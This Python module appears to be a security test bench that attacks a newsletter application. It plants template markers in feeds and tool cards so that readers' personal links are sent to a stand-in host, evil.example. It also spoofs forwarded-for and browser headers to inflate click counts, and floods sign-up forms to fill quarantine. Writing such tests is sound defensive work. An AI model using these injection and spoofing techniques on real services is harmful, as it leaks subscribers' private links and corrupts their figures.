"""Attacks by what outsiders write into letters, and by what programs do with their links."""

import re
from collections.abc import Mapping
from datetime import timedelta
from email.utils import format_datetime
from urllib.parse import urlencode

from bench.attacks.attack import Attack, Ending
from bench.attacks.ground import START, Ground
from newsletter.delivery.planning import plan
from newsletter.demo import feeds
from newsletter.demo.inbox import Parsed
from newsletter.editions.printing import print_edition
from newsletter.gathering import sources
from newsletter.gathering.gather import gather
from newsletter.gathering.sources import NewSource
from newsletter.intake import quarantine
from newsletter.intake.judging import NETWORK, UNPROVEN
from newsletter.intake.quarantine import MOST_WAITING
from newsletter.issues import approval
from newsletter.issues.proposing import propose
from newsletter.lists.importing import import_file
from newsletter.publications.preferences import change
from newsletter.tools import directory
from newsletter.tools.cards import Card
from newsletter.tracking.figures import Figures, read_figures
from newsletter.tracking.settling import settle_events
from tests.delivery.rig import subscribe

READERS = ("victim@readers.example", "other@readers.example")
MARKERS = ("[[[email]]", "[[[preferences_url]]", "[[[[[unsubscribe_url]]")
PLANTED = " ".join(MARKERS)
TITLES = (
    "Harbour opens",
    "Court rules",
    "Robot walks",
    "Storm passes",
    "Bridge falls",
    "Vote ends",
)
VISITS = 300
BROWSER = "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/{}"


def in_a_feed(ground: Ground) -> Ending:
    """Write three brackets into titles, words and picture addresses of a feed."""
    return _shown(ground, planted=True)


def in_a_tool(ground: Ground) -> Ending:
    """Write three brackets into each field of a tool that an editor then approves."""
    card = Card(
        PLANTED, f"https://evil.example/?{MARKERS[1]}", MARKERS[0], PLANTED, (MARKERS[0],),
        image_url=f"https://evil.example/p.png?x={MARKERS[1]}",
    )  # fmt: skip
    with ground.world.runtime.database.writing() as session:
        key = ground.world.publication.key
        for tool in directory.all_tools(session, key):
            directory.retire(session, tool.key)  # so that it is this one's turn
        directory.add(session, key, card)
    return _shown(ground, planted=False)


def of_a_list(ground: Ground) -> Ending:
    """Import somebody, and read in their letter why they get it."""
    world = ground.world
    people = ground.folder / "list.csv"
    people.write_text(f"address,joined_at\n{READERS[0]},2021-05-07\n", "utf-8")
    rejected = ground.folder / "rejected.csv"
    import_file(
        world.runtime.database, world.publication.key, people, now=START, rejected_path=rejected
    )
    text = " ".join(_send(ground, READERS[1])[READERS[0]].text.split())
    why = re.search(r"You receive this because .*?\.(?= Unsub)", text)
    seen = why[0] if why else "no word about it"
    return Ending("you confirmed" in seen, seen)


def by_one_network(ground: Ground) -> Ending:
    """Follow one link from one network, each time as another program."""
    path = _counted_link(ground)
    for number in range(VISITS):
        ground.ask("GET", path, headers=_visitor("192.0.2.1", number))
    return _people(ground)


def by_many_networks(ground: Ground) -> Ending:
    """Follow one link from ever other networks, slowly, each time as another program."""
    path = _counted_link(ground)
    for number in range(VISITS):
        ground.ask("GET", path, headers=_visitor(f"198.51.{number % 250}.{number // 250}", number))
    return _people(ground)


def by_two_networks(ground: Ground) -> Ending:
    """Send forms without a proof from two networks; then a person without scripts signs up."""
    for number in range(2 * NETWORK.most):
        _sign_up(ground, f"r{number}@d{number}.example", f"198.51.{number % 2}.9")
    _sign_up(ground, READERS[0], "203.0.113.9")
    waits = _waiting(ground, READERS[0])
    return Ending(waits, f"{READERS[0]} {'waits' if waits else 'gets a letter'}")


def by_a_full_quarantine(ground: Ground) -> Ending:
    """Fill quarantine by the trap of a form, and look whether anybody is told."""
    world = ground.world
    for number in range(60):
        _sign_up(ground, f"r{number}@d{number}.example", "198.51.100.9", website="x")
    counts = world.runtime.database.read(quarantine.count_by_status, world.publication.key)
    waiting = counts.get("waiting", 0)
    share = f"one network has {waiting} of {MOST_WAITING} places"
    return Ending(waiting >= 60, f"{share}; at the last place editors get a notice")


def _feed(*, planted: bool) -> bytes:
    """A feed of six stories; if it is planted, all texts and addresses in it have markers."""
    at = format_datetime(START - timedelta(hours=3))
    words, query = (PLANTED, MARKERS[1]) if planted else ("today", "")
    items = "".join(
        f"<item><title>{title} {words}</title>"
        f"<link>https://evil.example/{place}?{query}</link>"
        f"<description>{words} for all readers of it.</description><pubDate>{at}</pubDate>"
        f'<media:content url="https://evil.example/{place}.png?x={query}" medium="image"/>'
        "</item>"
        for place, title in enumerate(TITLES)
    )
    media = 'xmlns:media="http://search.yahoo.com/mrss/"'
    channel = f"<channel><title>{words}</title>{items}</channel>"
    return f'<rss version="2.0" {media}>{channel}</rss>'.encode()


def _shown(ground: Ground, *, planted: bool) -> Ending:
    """Send an issue, and look for a reader's own beside what was planted."""
    letter = _send(ground, *READERS, planted=planted)[READERS[0]]
    printed = 0
    found = 0
    for part in (letter.text, letter.html, letter.headers["Subject"]):
        printed += part.count("[[[email]]")
        # the template puts the address once into each part, and a reader's links on our own host
        found += max(0, part.count(READERS[0]) - 1)
        found += len(re.findall(r"evil\.example[^\s\"'<>]*/(?:preferences|leave)/", part))
    return Ending(
        found > 0 or printed == 0,
        f"{printed} markers were printed as they were written, {found} became a reader's own",
    )


def _gather(ground: Ground, *, planted: bool) -> None:
    """Read one source: the attacker's."""
    world = ground.world
    key = world.publication.key
    with feeds.serving({"/feed.xml": lambda _: _feed(planted=planted)}, world.clock) as home:
        with world.runtime.database.writing() as session:
            for source in sources.all_sources(session, key):
                sources.mark_retired(source)
            sources.add(session, key, NewSource(f"{home}/feed.xml"))
        gather(world.runtime.database, key, world.clock, world.runtime.limits)


def _send(ground: Ground, *readers: str, planted: bool = False) -> Mapping[str, Parsed]:
    """Send the first issue; return each reader's letter of it."""
    world = ground.world
    runtime = world.runtime
    key = world.publication.key
    now = world.clock.now()
    _gather(ground, planted=planted)
    with runtime.database.writing() as session:
        for reader in readers:
            subscribe(session, key, reader)
    with runtime.database.writing() as session:
        issue = propose(session, key, period="attack", due_at=now, now=now).key
        edition = print_edition(session, issue, runtime.urls, now)
        approval.approve(session, issue, edition.checksum, by="editor", now=now)
        plan(session, issue, now)
    world.ledger(1)
    issues = {
        address: [one for one in world.letters_to(address) if "List-Unsubscribe" in one.headers]
        for address in READERS
    }
    return {address: letters[-1] for address, letters in issues.items() if letters}


def _counted_link(ground: Ground) -> str:
    """Send an issue whose clicks are counted; return the path of a story's link."""
    world = ground.world
    world.runtime.database.write(change, world.publication.key, tracking="anonymous")
    letter = _send(ground, *READERS)[READERS[0]]
    world.clock.move_to(START + timedelta(hours=23))
    home = re.escape(world.runtime.settings.public_url)
    return re.findall(rf"{home}(/c/[\w-]+/\d+)", letter.html)[1]


def _visitor(address: str, number: int) -> dict[str, str]:
    """The headers of a visit from an address, by a program of its own name."""
    return {"X-Forwarded-For": address, "User-Agent": BROWSER.format(number)}


def _people(ground: Ground) -> Ending:
    """Say how many people the figures have, of two readers."""
    world = ground.world
    issue = world.issue(1).key
    before = _figures(ground, issue)
    world.clock.move_to(START + timedelta(hours=25))
    settle_events(world.runtime.database, world.clock.now())
    after = _figures(ground, issue)
    people = max(before.clicks.people, after.clicks.people)
    seen = f"{people} people, {after.clicks.robots} robots, of {after.sent} readers"
    return Ending(people > after.sent or after.clicks.robots == 0, seen)


def _figures(ground: Ground, issue_id: int) -> Figures:
    """Return the figures, once all visits are stored."""
    database = ground.world.runtime.database
    for _ in range(100):
        figures = database.read(read_figures, issue_id)
        if figures is not None and figures.clicks.people + figures.clicks.robots >= VISITS:
            break
    assert figures is not None
    return figures


def _sign_up(ground: Ground, address: str, network: str, **more: str) -> None:
    """Send the plain form, as a page without scripts does, from a network."""
    headers = {
        "Content-Type": "application/x-www-form-urlencoded",
        "X-Forwarded-For": network,
    }
    ground.ask("POST", "/subscribe", urlencode({"email": address, **more}).encode(), headers)


def _waiting(ground: Ground, address: str) -> bool:
    """True if a sign-up of that address is in quarantine."""
    held = ground.world.runtime.database.read(quarantine.held_of, address)
    return any(entry.status == "waiting" for entry in held)


ATTACKS: tuple[Attack, ...] = (
    Attack(
        "three brackets in a feed's titles, words and picture addresses",
        "each letter had its reader's address in titles, and opening it sent the reader's link to "
        "the attacker's host",
        in_a_feed,
    ),
    Attack(
        "three brackets in a tool that a stranger sends in",
        "accepted; the letter had its reader's link in the picture's address",
        in_a_tool,
    ),
    Attack(
        "a list's people are told that they confirmed",
        "“you confirmed … on the day that you chose” for who never did",
        of_a_list,
    ),
    Attack(
        "one network follows one link as ever other programs",
        "3,000 visits counted as 3,000 people, of an issue that went to 2 readers",
        by_one_network,
    ),
    Attack(
        "ever other networks follow one link",
        "each visit counted as a person, of an issue that went to 2 readers",
        by_many_networks,
    ),
    Attack(
        f"two networks send {UNPROVEN.most} forms without a proof of work",
        "for the rest of the hour each sign-up without scripts went into quarantine",
        by_two_networks,
    ),
    Attack(
        "one network fills quarantine",
        "after 1,000 entries all that was doubtful was dropped, and nobody was told",
        by_a_full_quarantine,
    ),
)
